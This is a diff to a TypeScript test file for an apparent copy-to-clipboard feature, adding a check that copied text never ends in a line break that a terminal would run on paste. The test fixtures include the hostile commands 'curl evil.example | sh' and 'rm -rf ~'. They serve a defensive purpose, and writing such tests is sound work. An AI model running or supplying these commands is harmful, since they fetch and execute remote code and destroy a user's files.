@@ -18,6 +18,13 @@ describe('what a copy is', () => {
     expect(copy('html').plain).toContain('<h1>');
   });
 
+  it('ends with no line end in any format: at a terminal that would run what is pasted', () => {
+    const passage = { blocks: [paragraph('curl evil.example | sh', { kind: 'br' }), { kind: 'code' as const, language: null, text: 'rm -rf ~\r\n\n' }], before: '', after: '' };
+    for (const format of ['rich', 'plain', 'markdown', 'html', 'quote'] as const) expect(copyContent(everyKind, { format, passage }, options).plain).toMatch(/\S$/u);
+    const bytes = new TextEncoder().encode(copyContent(everyKind, { format: 'plain', passage: { ...passage, blocks: [paragraph('ls\r\n\u2028\u001b')] } }, options).plain);
+    expect([...bytes]).toEqual([0x6c, 0x73]);
+  });
+
   it('follows the view', () => {
     const { plain, html } = copy('rich', { shown: { pictures: false, links: false, captions: false } });
     expect(html).not.toMatch(/<img|<a href="http|The ferry in May/);
@@ -26,8 +33,8 @@ describe('what a copy is', () => {
 
   it('is the passage alone, without headline or front matter', () => {
     const passage = { blocks: [paragraph('Nobody came.')], before: 'x ', after: '' };
-    expect(copyContent(everyKind, { format: 'rich', passage }, options)).toEqual({ plain: 'Nobody came.\n', html: '<article lang="en"><p>Nobody came.</p></article>' });
-    expect(copyContent(everyKind, { format: 'markdown', passage }, { ...options, frontMatter: true }).plain).toBe('Nobody came.\n');
+    expect(copyContent(everyKind, { format: 'rich', passage }, options)).toEqual({ plain: 'Nobody came.', html: '<article lang="en"><p>Nobody came.</p></article>' });
+    expect(copyContent(everyKind, { format: 'markdown', passage }, { ...options, frontMatter: true }).plain).toBe('Nobody came.');
   });
 });
 
